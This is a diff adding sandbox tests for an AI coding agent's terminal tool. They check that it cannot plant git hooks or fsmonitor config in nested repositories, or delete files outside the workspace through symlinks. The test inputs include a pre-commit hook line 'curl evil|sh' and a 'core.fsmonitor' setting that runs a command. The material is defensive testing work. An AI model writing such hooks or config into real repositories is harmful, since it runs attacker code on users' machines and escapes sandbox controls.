@@ -485,6 +485,30 @@ async def test_a_nested_repositorys_hooks_and_config_are_protected(terminal: Ter
     assert not removed.sandbox_denial.grantable
 
 
+async def test_a_deeply_nested_repositorys_hooks_and_config_are_protected(workspace: Path) -> None:
+    """A repository nested deeper than three folders (a monorepo's `packages/web/vendor/lib/x/.git`)
+    keeps its hooks and config read-only too; git runs them when the user works there, as it runs a
+    shallow one's."""
+    nested = workspace / "packages" / "web" / "vendor" / "lib" / "x" / ".git"
+    (nested / "hooks").mkdir(parents=True)
+    (nested / "HEAD").write_text("ref: refs/heads/main\n")
+    (nested / "config").write_text("[core]\n")
+    terminal = TerminalTool(ToolContext(workspace, "root"))
+    try:
+        hook = await terminal.run(
+            TerminalAction(command="echo 'curl evil|sh' > packages/web/vendor/lib/x/.git/hooks/pre-commit")
+        )
+        assert hook.is_error and not (nested / "hooks" / "pre-commit").exists()
+        config = await terminal.run(
+            TerminalAction(command="git -C packages/web/vendor/lib/x config core.fsmonitor 'touch pwned'")
+        )
+        assert config.is_error and (nested / "config").read_text() == "[core]\n"
+        ordinary = await terminal.run(TerminalAction(command="echo ok > packages/web/vendor/lib/x/README && echo done"))
+        assert not ordinary.is_error and (nested.parent / "README").read_text() == "ok\n"
+    finally:
+        await terminal.close()
+
+
 async def test_git_cannot_be_pointed_at_another_common_directory(terminal: TerminalTool, workspace: Path) -> None:
     """`.git/commondir` makes git read config and hooks from another directory: one naming a
     directory with `core.fsmonitor` set ran a program at the user's next `git status`. A linked
@@ -525,3 +549,37 @@ async def test_tool_settings_that_run_code_are_protected(terminal: TerminalTool,
     assert not any((workspace / name).exists() for name in (".yarnrc.yml", ".pnpmfile.cjs", "bunfig.toml"))
     ide = await _run(terminal, "mkdir -p .idea/runConfigurations && echo x > .idea/runConfigurations/x.xml")
     assert "undid" in ide.text and not (workspace / ".idea").exists()
+
+
+async def test_undoing_a_protected_path_never_deletes_through_a_link(workspace: Path, tmp_path: Path) -> None:
+    """The sandbox undoes, from `tui`'s own unconfined process, what a command did to protected
+    paths. A command that made `.github` a link to another project made `.github/workflows`
+    appear; the undo deleted that project's workflows, outside the workspace, where no command
+    could write. The same through `.git/modules` (another repository's hooks and config) and the
+    folder of a file an instruction file imports."""
+    other = tmp_path / "other"
+    (other / ".github" / "workflows").mkdir(parents=True)
+    (other / ".github" / "workflows" / "ci.yml").write_text("keep\n")
+    repo = other / "repo"
+    (repo / "hooks").mkdir(parents=True)
+    (repo / "HEAD").write_text("ref: refs/heads/main\n")
+    (repo / "hooks" / "pre-commit").write_text("#!/bin/sh\nmake lint\n")
+    (repo / "config").write_text("[alias]\n\tst = status\n")
+    (other / "docs").mkdir()
+    (other / "docs" / "rules.md").write_text("keep\n")
+    (workspace / ".git").mkdir()
+    (workspace / "CLAUDE.md").write_text("@docs/rules.md\n")
+    from openhands_tui.sdk.security.trusted_files import note_instruction_imports
+
+    note_instruction_imports([workspace / "CLAUDE.md"], workspace)
+    terminal = TerminalTool(ToolContext(workspace, "root"))
+    try:
+        links = {".github": other / ".github", ".git/modules": other, "docs": other / "docs"}
+        for link, target in links.items():
+            await terminal.run(TerminalAction(command=f"ln -s {target} {link}"))
+        assert (other / ".github" / "workflows" / "ci.yml").read_text() == "keep\n"
+        assert (repo / "hooks" / "pre-commit").exists() and (repo / "config").exists()
+        assert (other / "docs" / "rules.md").read_text() == "keep\n"
+        assert [link for link in links if (workspace / link).is_symlink()] == []  # what the commands made is undone
+    finally:
+        await terminal.close()
